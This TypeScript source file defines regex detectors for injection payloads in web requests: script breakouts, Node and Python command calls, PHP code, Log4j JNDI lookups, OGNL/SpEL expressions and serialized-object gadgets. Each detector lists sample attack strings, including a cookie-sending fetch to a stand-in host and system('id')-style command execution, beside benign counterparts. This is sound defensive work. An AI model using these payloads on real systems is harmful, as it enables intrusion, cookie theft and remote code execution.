/** Detectors of program text: JavaScript of pages, Node, Python, PHP, Java. */

import type { ByteString } from '../../../base/byte-string.ts';
import { SEEN } from '../bytes-seen.ts';
import { apart, words } from '../literals.ts';
import { actsInString, closesForeign, isOwnCommand } from '../own-code.ts';
import { endOfPagePart, isInPagePart } from '../php-pages.ts';
import { patternFamily, textKinds, type PatternDetector } from '../patterns.ts';

const ecma = 'ECMA-262, sections 13.3 and 13.5; HTML standard, section 8';
const phpManual = 'PHP manual, "Program execution", "Eval", "Serialization"';
const javaDocs = 'Java Object Serialization Specification; OGNL and SpEL language guides';

/** Functions of attacks; the others begin ordinary statements, too. */
const attackCall = /(?:alert|confirm|prompt|eval|atob|Function)["'`\])]{0,3}\s{0,4}[(`]$/;
/** Bytes before a call in which brackets are counted. */
const statementBytesMax = 400;

/** Whether a call follows the end of another statement of the same program: `f(1)); setTimeout(`. */
function leavesStatement(text: ByteString, start: number, end: number): boolean {
  const match = text.slice(start, end);
  const attack = attackCall.exec(match);
  const quote = attack === null ? /["'`]/.exec(match) : null;
  if (attack !== null && actsInString(text, start + attack.index)) return true;
  if (quote !== null) return closesForeign(text, start + quote.index);
  let depth = 0;
  for (let at = Math.max(0, start - statementBytesMax); at < end - 1; at++) {
    const char = text.charAt(at);
    if (char === '(' || char === '{') depth++;
    else if ((char === ')' || char === '}') && --depth < 0) return true;
  }
  return false;
}

const runsCommand = /(?:system|exec|popen)\s{0,4}\(/i;

/** What a program does after it imported a module and harms nobody. */
const idleStatement =
  /\s{0,8}(?:\w{1,16}\s{0,2}=\s{0,2}|print\s{0,2}\(\s{0,2})?(?:os\.(?:listdir|getcwd|path|makedirs|cpu_count)\b|subprocess\.\w{2,16}\(\[["'](?:ls|git|python3?|npm|pip|make)["']|os\.system(?=\(["'](?:clear|cls|pause)["']\)))/y;

/** Whether a call that runs a command is more than one of a program with a constant command. */
function runsMore(text: ByteString, start: number, end: number): boolean {
  if (text.startsWith('import', start)) {
    idleStatement.lastIndex = end;
    return !idleStatement.test(text);
  }
  const found = runsCommand.exec(text.slice(start, end));
  return found === null || !isOwnCommand(text, start + found.index + found[0].length);
}

const runsOther = /(?:\)|child_process["'`)\]. ]{1,6})\s{0,4}\.?\s{0,4}(?:e|exec)$/;
const callOfExec = /(?:xec)?(?:Sync)?\s{0,2}\(/y;

/** Declarations that only a module begins with: no expression and no script has them. */
const beginsModule =
  /^\s{0,8}import\s{1,4}(?:\w{1,32}|\{[\w ,]{1,200}\}|\*\s{1,4}as\s{1,4}\w{1,32})\s{1,4}from\s/;

/** Whether Node.js runs more than a module of the text's own, or a constant command. */
function runsProgram(text: ByteString, start: number, end: number): boolean {
  if (beginsModule.test(text)) return false;
  if (!runsOther.test(text.slice(start, end))) return true;
  callOfExec.lastIndex = end;
  return !(callOfExec.test(text) && isOwnCommand(text, callOfExec.lastIndex));
}

const typeOfMethod = /method '[\w.[\]]{1,60} $/;
const lookupOfNothing = /^\$\{jndi:\w{2,5}:(?:\/\/)?(?:\.{3})?\}/;

/** Whether a class is more than a part of a message about a method of it. */
function isNoMessage(text: ByteString, start: number): boolean {
  return !typeOfMethod.test(text.slice(Math.max(0, start - 80), start));
}

const afterWords = /[a-z]{2,20},? [a-z]{1,20},? [^\n]{0,40}[\s(=]$/i;

/** Whether a variable of a request is more than what a sentence about PHP reads. */
function isRead(text: ByteString, start: number, end: number): boolean {
  if (!runsMore(text, start, end) || isInPagePart(text, start)) return false;
  const isVariable = /^\$_[A-Z]/.test(text.slice(start, start + 3));
  return !isVariable || !afterWords.test(text.slice(Math.max(0, start - 100), start));
}

const js: readonly PatternDetector[] = [
  {
    id: 198_430,
    name: 'script-call-after-quote',
    proves: 'closes a quote in a script and calls a function',
    source: ecma,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.paren,
    literals: words(
      'alert confirm prompt eval settimeout setinterval function atob fetch document. console.log',
    ),
    pattern:
      /(?:^\\?|[^\\])["'`)\]}]{1,3}[\s;,)}\]]{0,6}(?:[-+*/^%|&?:,;=]{1,2}|(?<=["'`]\s{0,2}\}))\s{0,4}[({[]{0,3}(?:(?:window|self|top|parent|globalThis|frames)\s{0,2}(?:\.|\[))?["'`]{0,1}(?:alert|confirm|prompt|eval|setTimeout|setInterval|Function|atob|fetch|document\.\w{3,8}|console\.log)["'`\])]{0,3}\s{0,4}[(`]/g,
    counts: leavesStatement,
    examples: {
      attacks: [
        "'-alert(1)-'",
        '1);fetch("//x")',
        'f, null); alert(a.b)',
        '";alert(1)//',
        "');confirm(1)//",
        "'+eval(1)+'",
      ],
      benign: [
        ...['he said "alert" (1)', "it's; an alert", '"a" - b'],
        'f(g({ a: 1 })); setTimeout(function () {}, 100);',
        "await Promise.all([fetch('/a'), fetch('/b')])",
        "x.innerHTML = '<b>hi</b>';\neval('1 + 1');",
      ],
    },
  },
  {
    id: 198_431,
    name: 'script-call',
    proves: 'calls a function that script attacks call',
    source: ecma,
    strong: false,
    confirmedBy: [941],
    needs: SEEN.paren,
    literals: words(
      'alert confirm prompt eval execscript settimeout setinterval importscripts function',
    ),
    pattern:
      /(?:^|[^\w.$])(?:alert|confirm|prompt|eval|execScript|setTimeout|setInterval|importScripts|Function)\s{0,4}(?:\/\*[^*]{0,32}\*\/)?(?:\?\.)?\(\s{0,4}(?:["'`\d]|document|window|location|String|this|self|atob|\/|name|`)/g,
    examples: {
      attacks: ['alert(1)', 'eval("x")', 'prompt(document.cookie)'],
      benign: ['an alert (red)', 'evaluate(1)'],
    },
  },
  {
    id: 198_432,
    name: 'script-property-chain',
    proves: 'reads or sets cookies, address or contents of a page in a script',
    source: ecma,
    strong: false,
    confirmedBy: [941],
    needs: 0,
    literals:
      words(`document [ .location .name .open .eval location localstorage. string.fromcharcode
      innerhtml outerhtml xmlhttprequest navigator.sendbeacon`),
    pattern:
      /\bdocument\s{0,2}(?:\.|\[["'`])\s{0,2}(?:cookie|write|writeln|domain|location|body|documentElement|createElement|forms|URL)\b|\b(?:window|self|top|parent|this|globalThis)\s{0,2}\[\s{0,2}["'`/]|\b(?:window|self|top|parent|document)\.(?:location|name|open|eval)\b|\blocation\s{0,2}(?:\.(?:href|hash|assign|replace))?\s{0,2}=\s{0,2}["'`\w]|\blocalStorage\.\w|String\.fromCharCode|\.(?:inner|outer)HTML\s{0,2}=|XMLHttpRequest|navigator\.sendBeacon/g,
    examples: {
      attacks: ['(document.cookie)', "self['alert']", 'location="//x"'],
      benign: ['the document', 'location: here'],
    },
  },
  {
    id: 198_433,
    name: 'script-constructor-call',
    proves: 'builds a function from a text',
    source: ecma,
    strong: true,
    confirmedBy: [941, 934],
    needs: 0,
    literals: words(
      'constructor function ` reflect. [ onerror eval execscript settimeout setinterval',
    ),
    pattern:
      /(?:constructor|\[["'`]constructor["'`]\])\s{0,2}(?:\.|\[["'`]|\()\s{0,2}(?:constructor|prototype|["'`])[^\n]{0,8}[(\]]|(?:\[\]|""|''|\d)(?:\.|\[["'`])(?:constructor|filter|map|find|sort|at|flat|concat|some|entries)[^\n]{0,16}constructor|new\s{1,4}Function\s{0,2}\(\s{0,2}["'`]|(?:alert|confirm|prompt|eval|setTimeout|Function)(?:\.call|\.apply|\.bind|\?\.)?\s{0,2}`[^`]{0,64}`|Reflect\.(?:apply|construct)\s{0,2}\(|\[\s{0,2}["'`](?:al|ale|aler|ev|eva|con|pro|prom)["'`]\s{0,2}\+|\b(?:window|self|top|parent|globalThis)\s{0,2}\[\s{0,2}["'`/][^\]]{1,60}\]\s{0,2}\(|\b(?:eval|execScript)\s{0,2}\(\s{0,2}(?:["'][^"'\n]{0,40}["']\s{0,2}\+|atob|unescape|String\.from|location|name\b)|\b(?:setTimeout|setInterval)\s{0,2}\(\s{0,2}["'`]\s{0,2}(?:alert|confirm|prompt|eval|document)\b|\bFunction\s{0,2}\(\s{0,2}["'`][^\n]{0,80}["'`]\s{0,2}\)\s{0,2}\(|throw\s{0,2}onerror\s{0,2}=|onerror\s{0,2}=\s{0,2}(?:alert|eval)/g,
    examples: {
      attacks: [
        "constructor.constructor('x')()",
        'alert`1`',
        "self['al'+'ert'](1)",
        "new Function('x')",
      ],
      benign: ['the constructor call', 'new Functionality', 'an alert'],
    },
  },
  {
    id: 198_437,
    name: 'script-call-value',
    proves: 'breaks out of a script or template and calls a function',
    source: ecma,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.paren,
    literals: words('alert confirm prompt eval'),
    pattern:
      /^(?=[^a-z]{0,16}[-+*/;|&~!}$])[\s\d;,*/+|&(){}[\]$!~"'`\\^-]{1,16}(?:(?:window|self|top|parent|globalThis)\s{0,2}\.\s{0,2})?(?:alert|confirm|prompt|eval)\s{0,2}\(\s{0,2}(?:\d|["'`/]|document|window|location|origin|this|self|name|atob|String)/g,
    examples: {
      attacks: ['1;alert(1)', '*/alert(1)/*', '${alert(1)}', '-prompt(document.domain)-'],
      benign: ['alert(1)', 'on error: alert(1)', '(an alert (1))', '// call alert("x") here'],
    },
  },
  {
    id: 198_438,
    name: 'script-sends-page',
    proves: 'sends cookies or contents of the page to another host',
    source: ecma,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.plus,
    literals: words('document.'),
    pattern:
      /(?:\bfetch\s{0,2}\(|sendBeacon\s{0,2}\(|\blocation(?:\.href)?\s{0,2}=|\.src\s{0,2}=|\bopen\s{0,2}\(|location\.(?:assign|replace)\s{0,2}\()\s{0,4}["'`](?:https?:)?\/\/[^"'`\n]{0,200}["'`]\s{0,4}\+\s{0,4}(?:[\w.]{0,32}\(\s{0,4}){0,2}document\.(?:cookie|domain|body|documentElement)/g,
    examples: {
      attacks: ["document.location='//x?'+document.cookie", 'fetch("//x/"+btoa(document.cookie))'],
      benign: ['document.cookie = "a=" + b', 'fetch("/a?" + document.title)'],
    },
  },
  {
    id: 198_434,
    name: 'script-of-signs',
    proves: 'is a script of brackets and signs only',
    source: ecma,
    strong: true,
    confirmedBy: [941],
    needs: SEEN.bracket | SEEN.bang,
    literals: ['[]'],
    pattern:
      /(?:\(?!\[\]\+\[\]\)?|\(?!!\[\]\+\[\]\)?|\[\+\[\]\]|\(\[\]\[\[?|\[\]\[\(!)[[\]()!+]{6,200}|\$=~\[\];/g,
    examples: {
      attacks: ['(![]+[])[+[]]+(![]+[])', '[][(![]+[])[+!+[]]]'],
      benign: ['- [ ] todo', '![](a.png)', '[x] (a)!'],
    },
  },
  {
    id: 198_435,
    name: 'node-code',
    proves: 'runs code of Node.js',
    source: 'Node.js API, child_process, process, vm',
    strong: true,
    confirmedBy: [934],
    needs: SEEN.paren,
    literals: words('require process child_process _$$nd_func$$_ sync'),
    pattern:
      /require\s{0,4}\(\s{0,4}["'`](?:node:)?(?:child_process|fs|vm|net|os|http)["'`]\s{0,4}\)\s{0,4}\.\s{0,4}\w|process\s{0,2}(?:\.|\[["'`])\s{0,2}(?:mainModule|binding|exit|kill|env\b[^\n]{0,8}\)|dlopen)|child_process["'`)\]. ]{1,6}\.?\s{0,2}(?:exec|spawn|fork)|_\$\$ND_FUNC\$\$_|global\.process|res\.(?:end|send|write)\s{0,2}\(\s{0,2}require|(?:exec|spawn|readFile|readdir)Sync\s{0,2}\(/g,
    counts: runsProgram,
    examples: {
      attacks: [
        "require('child_process').exec('id')",
        'process.mainModule.require("x")',
        '_$$ND_FUNC$$_function (){}(x)',
      ],
      benign: [
        ...["const fs = require('fs');", 'the process (main)', 'we require (x)'],
        "require('child_process').exec('git status', print)",
        "import fs from 'node:fs'; fs.readFileSync('/etc/hosts', 'utf8')",
      ],
    },
  },
  {
    id: 198_436,
    name: 'python-code',
    proves: 'runs code of Python or Lua',
    source:
      'Lua 5.4 manual, section 6.9; Python language reference 3.13, section 3.2; Jinja sandbox notes',
    strong: true,
    confirmedBy: [934, 932],
    needs: 0,
    literals: [
      ...words('__ os. io.popen subprocess. eval exec import pickle.'),
      ...['\nsystem', '\npopen'],
    ],
    pattern:
      /__(?:import__\s{0,4}\(|class__\s{0,4}(?:\.|\[|\)|\|)|mro__|subclasses__|globals__|builtins__|base__|bases__|reduce__|getattribute__|init__\s{0,2}(?:\.|\[))|\b(?:os\.(?:system|popen|execv?|execute|spawnl)|io\.popen)\s{0,4}\(|\bsubprocess\.(?:call|run|popen|check_output|getoutput)\s{0,4}\((?!\s{0,4}\[["'](?:ls|git|python3?|npm|pip|echo|make|docker)["'])|\b(?:eval|exec)\s{0,4}\(\s{0,4}(?:compile|bytes|chr|base64|__)|\bimport\s{1,4}(?:os|socket|subprocess|pty)\s{0,4};|\bpickle\.loads|c(?:os|posix|nt|__builtin__)\n(?:system|popen|eval|exec)\n/gi,
    counts: runsMore,
    examples: {
      attacks: [
        "__import__('os').system('id')",
        "''.__class__.__mro__",
        'import os;os.system("x")',
        'os.execute("id")',
      ],
      benign: [
        ...['import os', 'the __init__ method', 'class __main__'],
        "subprocess.run(['ls', '-l'], check=True) fails",
        'os.system("clear") works, os.system("git status") as well',
        "import subprocess; out = subprocess.run(['ls', '-l'])",
      ],
    },
  },
  {
    id: 198_450,
    name: 'php-open-tag',
    proves: 'begins code of PHP, JSP or ASP',
    source: phpManual,
    strong: true,
    confirmedBy: [933],
    needs: SEEN.less,
    literals: ['<?', '<script', '<%', '<jsp:', '<cf'],
    pattern:
      /<\?(?:php\b|=\s{0,4}[$\w`("']|\s{1,4}(?:echo|print|system|exec|eval|include|require|passthru)\b)|<script[^>]{0,40}(?:language\s{0,4}=\s{0,4}["']?php|runat\s{0,4}=\s{0,4}["']?server)|<cf(?:execute|file|include|module|object)\s|<jsp:(?:scriptlet|expression|declaration|include|forward)\b|<%[=@!]?\s{0,8}(?:page|@\s{0,4}[a-z]{4}|response|request|eval|execute|runtime|java|out\.|system|`[^`]{1,80}`|\d{1,9}\s{0,2}[*+%-]|import)/gi,
    counts: (text, start) => endOfPagePart(text, start) < 0,
    examples: {
      attacks: ['<?php echo 1;', '<?=`id`?>', '<%=7*7%>', '<cfexecute name="cmd.exe">'],
      benign: [
        ...['<cfoutput>', '<?xml version="1.0"?>', 'a <? b', '<%'],
        '<?php foreach ($items as $item): ?><li><?= $item->name ?></li><?php endforeach; ?>',
      ],
    },
  },
  {
    id: 198_451,
    name: 'php-call',
    proves: 'calls a function of PHP that runs code or commands',
    source: phpManual,
    strong: true,
    confirmedBy: [933],
    needs: 0,
    literals:
      words(`runphp exec passthru proc_open popen phpinfo php_uname phpversion phpcredits assert
      create_function call_user_func base64_decode gzinflate str_rot13 file_put_contents
      file_get_contents readfile highlight_file show_source move_uploaded_file var_dump print ini_set
      getenv posix_ scandir opendir fopen unlink system include require die eval chr exit echo response.write
      $_ $globals \${`),
    pattern:
      /(?:^|[^\w.>$'"-])(?:shell_exec|passthru|proc_open|popen|pcntl_exec|phpinfo|php_uname|phpversion|phpcredits|assert|create_function|call_user_func(?:_array)?|base64_decode|gzinflate|str_rot13|file_put_contents|file_get_contents|readfile|highlight_file|show_source|move_uploaded_file|var_dump|print_r|ini_set|getenv|posix_\w{4,12}|scandir|opendir|fopen|unlink|system|exec|include|require(?:_once)?|die|eval|chr)\s{0,4}(?:\/\*[^*]{0,20}\*\/)?\(\s{0,4}(?:["'](?!use|child|(?<=(?:include|require|_once)\s{0,4}\(\s{0,4}["'])(?:\.{1,2}\/){0,4}\/?[\w/-]{1,60}(?:\.(?:php|js|json))?["'])[^"']{1,80}["']\s{0,4}[).,]|\$_(?:get|post|request|cookie|server|files)|\$\w{1,20}\[|\)\s{0,4};|base64_decode|chr\(|gzinflate|str_rot13|(?:md5|phpinfo|system)\(|\d{1,12}\s{0,4}\)\s{0,4}[.;])|\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES|SESSION|ENV)\s{0,2}[[{]|\$\{?GLOBALS\b|\$\{@?(?:print|system|eval|phpinfo|exec)\b|\bresponse\.write\s{0,2}\(\s{0,2}\d{1,12}\s{0,2}[*+]|\b(?:print|echo|die|exit)\s{0,2}\(?\s{0,2}`[^`]{1,80}`|(?:^|[;{}])\s{0,4}@?(?:print|echo)\s{0,4}\(?\s{0,4}(?:md5|phpinfo|system|shell_exec|`|\d{1,12}\s{0,2}[*+])(?:\s{0,2}\(|(?<=[`*+]))|["']\s{0,4}[.;]\s{0,4}@?(?:system|exec|passthru|shell_exec|eval|assert|popen|phpinfo)\s{0,2}\([^\n]{0,80}\)\s{0,4}[.;]|^phpinfo\s{0,2}\(\)$|\{\w{1,12}:[^{}\n]{0,80}\srunphp\s{0,4}=/gi,
    counts: isRead,
    examples: {
      attacks: [
        "system('id')",
        'phpinfo();',
        "eval($_POST['x'])",
        '${@print(md5(1))}',
        ';print(md5(5));',
        'phpinfo()',
        ...['assert(phpinfo())', 'response.write(98*99)'],
        ...['echo md5("x");', '";system(id)."', ';{$_GET["cmd"]}'],
      ],
      benign: [
        ...['the system (old)', 'include (optional)', 'a chr(1) b', 'die (der)'],
        ...[
          "include('../config.php'); works",
          "require('../../lib/db') fails",
          "In PHP, echo $_GET['name']; prints it",
          "<?php echo htmlspecialchars($_GET['q']); ?>",
        ],
      ],
    },
  },
  {
    id: 198_452,
    name: 'php-serialized',
    proves: 'is a serialized object of PHP',
    source: phpManual,
    strong: true,
    confirmedBy: [933],
    needs: SEEN.colon,
    literals: [...'0123456789+'].flatMap((sign) => [`o:${sign}`, `c:${sign}`]),
    pattern: /(?:^|[;{\s"'])[OC]:\+?\d{1,4}:"[\w\\]{1,128}":\d{1,6}:\{/g,
    examples: {
      attacks: ['O:8:"stdClass":1:{s:1:"a";i:1;}', 'a:1:{i:0;O:3:"Foo":0:{}}'],
      benign: ['a:1:{i:0;i:1;}', 'O: 5', 'C:1'],
    },
  },
  {
    id: 198_460,
    name: 'java-lookup',
    proves: 'makes Java look up a name on another server',
    source: 'Apache Log4j 2 manual, "Lookups"; JNDI specification',
    strong: true,
    confirmedBy: [944],
    needs: SEEN.dollar | SEEN.brace,
    literals: ['${'],
    pattern:
      /\$\{\s{0,4}(?:jndi\s{0,4}:|env:(?=[^{}:]{0,60}(?:secret|token|passw|pwd|key|aws_|cred))[^{}]{0,60}\}|env:[^{}]{0,60}(?::-|\$\{)|(?:lower|upper|sys|date|main|java|ctx|base64|bundle|:|::|k8s|docker|web|event|marker|map|sd|log4j|spring|kubernetes|script|dns|url|xml|const|properties):[^{}]{0,60}(?:\}|\$\{)|[^{}\n]{0,40}:-[^{}]{0,8}\}[^\n]{0,200}(?::|\$\{)|[^{}]{0,16}\$\{(?:lower|upper|env|sys|::?-?|date|[^{}]{0,20}:-))/gi,
    counts: (text, start) => !lookupOfNothing.test(text.slice(start, start + 32)),
    examples: {
      attacks: [
        '${jndi:ldap://x/a}',
        '${${lower:j}ndi:rmi://x}',
        '${${::-j}${::-n}di:x}',
        '${env:AWS_SECRET}',
      ],
      benign: [
        '"path": "${env:PATH}"',
        '${name}',
        'costs ${price:-5}',
        '${a.b}',
        '${x ? 1 : 2}',
        '${jndi:ldap://}',
      ],
    },
  },
  {
    id: 198_461,
    name: 'java-expression',
    proves: 'is an expression of OGNL, SpEL or another language on Java',
    source: javaDocs,
    strong: true,
    confirmedBy: [944],
    needs: 0,
    literals: [
      ...words('java. javax. getruntime getclass forname # @ default_member_access xwork. module'),
      ...words(
        'classloader protectiondomain @grab @asttest execute com.sun. org.apache. ch.qos. ysoserial freemarker. %{ nashorn applicationscope context',
      ),
      ...apart(')', '.'),
    ],
    pattern:
      /(?<!\/|\bat\s|by:\s|invoke ")(?:(?:java\.lang\.|javax\.|java\.(?:io|net|util)\.)(?:(?:Runtime|ProcessBuilder|ScriptEngineManager|ProcessImpl)\b|script\.|naming\.(?!\w{0,40}Exception)|(?:Class|System|File\w{0,16}|URL\w{0,16}|Scanner|Thread|Math|String)(?=@|\(|\.\w{1,40}\s{0,2}\())|com\.sun\.(?:rowset|org\.apache)|org\.apache\.(?:commons\.collections|xalan|tomcat|struts2)\.|ch\.qos\.logback|jdk\.nashorn\.internal\.|org\.springframework\.context\.support\.(?:ClassPath|FileSystem)Xml)|\bProcessBuilder\s{0,2}\((?!\s{0,2}"(?:git|java|mvn|npm|docker|echo)")[^()\n]{0,80}\)\s{0,2}\.\s{0,2}start\b|\$\{\s{0,4}(?:(?:pageContext|facesContext|applicationScope)(?:\}|\.[\w.]{1,80}\()|#(?:_memberAccess|context|application|session|request|parameters)\b)|#_memberAccess\b|\bT\s{0,2}\(\s{0,2}[\w.]{2,64}\s{0,2}\)\s{0,2}\.|\bgetRuntime\s{0,2}\((?!\s{0,2}\)\s{0,2}\.(?:availableProcessors|(?:free|total|max)Memory|gc|addShutdownHook)\b)|\.getClass\s{0,2}\(\s{0,2}\)\s{0,2}\.|\bforName\s{0,2}\(\s{0,2}["'](?![\w.]{2,60}Driver["']\s{0,2}\)(?:$|[;`\s])|(?!(?:java|javax|jdk|sun|com\.sun|org\.(?:apache|springframework|codehaus|mozilla|python))\.)\w{2,20}\.[\w.]{2,60}["']\s{0,2}\))|#(?:_memberAccess|context|application|session|attr|request|parameters)\b\s{0,4}(?:\[|=|\.)|@\w{2,20}\.[\w.]{4,80}@\w|\bDEFAULT_MEMBER_ACCESS|#\w{1,20}\s{0,4}=\s{0,4}(?:new\s|@|\(#)|\bxwork\.MethodAccessor|(?:^|[.&?])(?:class|\w{1,24}\.class)(?:\.|\[["'])(?:module|classLoader|protectionDomain)\b|ysoserial|\bfreemarker\.template\.utility|@Grab(?:Config|Resolver|Exclude)?\s{0,2}\(|@ASTTest\s{0,2}\(|["']\s{0,2}\.\s{0,2}execute\s{0,2}\(\s{0,2}\)|"@type"\s{0,4}:\s{0,4}"L?(?:java|javax|com|org|net|ch)\.|%\{\s{0,4}(?:[#(]\s{0,2}[\w@#('"]|\d{1,9}\s{0,2}[*+%-])|\$\{\s{0,4}(?:\(\s{0,2})?#\w{1,20}\s{0,2}=/g,
    counts: isNoMessage,
    examples: {
      attacks: [
        "T(java.lang.Runtime).getRuntime().exec('id')",
        ...['%{#context}', 'redirect:${#context}', 'method:#_memberAccess'],
        ...['${applicationScope}', '${pageContext.request.getSession()}'],
        ...['ProcessBuilder("id").start()', 'jdk.nashorn.internal.objects.NativeString'],
        'class.module.classLoader.x',
        '@java.lang.Math@PI',
        ...['@GrabConfig(disableChecksums=true)', '"id".execute().text'],
      ],
      benign: [
        'Runtime.getRuntime().availableProcessors() says 1',
        'Class.forName("com.example.Plugin").newInstance() throws',
        ...['${pageContext.request.contextPath}/a', '${sessionScope.user}'],
        ...['java.util.List', 'a class loader', 'me@mail.example', 'get runtime'],
        // What programs report of themselves.
        'java.lang.NullPointerException\n\tat java.base/java.lang.Thread.run(Thread.java:833)',
        'Cannot invoke "java.lang.String.length()" because "s" is null',
        "method 'int java.lang.String.length()' on a null object",
        'class java.lang.String cannot be cast to class java.lang.Integer',
        'java.lang.NoSuchMethodException: a.B.<init>(java.lang.String)',
        'javax.naming.NameNotFoundException: jdbc/a',
        'Caused by: org.apache.tomcat.util.http.fileupload.FileUploadException: a',
        '"@context":"https://schema.org","@type":"Product"',
      ],
    },
  },
  {
    id: 198_462,
    name: 'serialized-object',
    proves: 'is a serialized object of Java, .NET or Python',
    source: 'Java Object Serialization Specification; MS-NRBF; PEP 307',
    strong: true,
    confirmedBy: [944, 934],
    needs: 0,
    literals: [
      '\xac\xed\0\x05',
      '\0\x01\0\0\0\xff',
      '\xff\x01\x32',
      ...words('\x80\x02 \x80\x03 \x80\x04 \x80\x05'),
    ],
    kinds: ['binary', 'text'],
    pattern:
      /^(?:\xac\xed\0\x05|\0\x01\0\0\0\xff\xff\xff\xff|\xff\x01\x32|\x80[\x02-\x05](?:c\w{2,32}\n|\x95|\}q|\]q))/g,
    examples: {
      attacks: [
        'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
        'AAEAAAD/////AQAAAAAAAAAMAgAAAA==',
        '/wEyxBEAAQAAAP////8BAAAA',
      ],
      benign: ['/wEPDwUKMTIzNDU2Nzg5MGRk', 'iVBORw0KGgoAAAANSUhEUg==', 'AAAA'],
    },
  },
  {
    id: 198_463,
    name: 'typed-object',
    proves: 'names a class that a program would create an object of when it reads the value',
    source: 'YAML 1.2, section 6.9; Json.NET and DataContractSerializer documentation',
    strong: true,
    confirmedBy: [944, 934],
    needs: 0,
    literals: words(
      '!ruby/ !python/ !php/ !!javax !!java. !!com. !!org. <dynamic-proxy system.diagnostics kernel. io.popen process.spawn $type objectdataprovider z:type',
    ),
    kinds: [...textKinds, 'document'],
    pattern:
      /!ruby\/(?:object|hash|struct|module|class|regexp|marshalable)|!!?python\/(?:object|name|module|apply)[:/]|!php\/object|!!(?:javax?|com|org)\.[\w.]{2,80}|["']\$type["']\s{0,4}:\s{0,4}["'](?:System|Microsoft)\.|\bObjectDataProvider\b|<dynamic-proxy>|\bSystem\.Diagnostics\.Process\b[^\n]{0,4}\.Start(?!\s{0,2}\(\s{0,2}"(?:notepad|explorer)(?:\.exe)?")|\b(?:Kernel\.(?:exec|system|spawn)|IO\.popen|Process\.spawn)\s{0,2}\(|\bz:Type\s{0,2}=\s{0,2}["']System\./g,
    examples: {
      attacks: [
        '--- !ruby/object:Gem::Installer',
        '!!python/object/apply:os.system ["id"]',
        '!!javax.script.ScriptEngineManager [x]',
        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
        '{"$type":"System.Configuration.Install.AssemblyInstaller"}',
      ],
      benign: [
        '# !!python/object is refused',
        'Process.Start("notepad.exe")',
        '!important',
        '!!true',
        '"type":"System.String"',
        'we love ruby/object mapping!',
      ],
    },
  },
];

/** The family of program text. */
export const script = patternFamily('script', js);
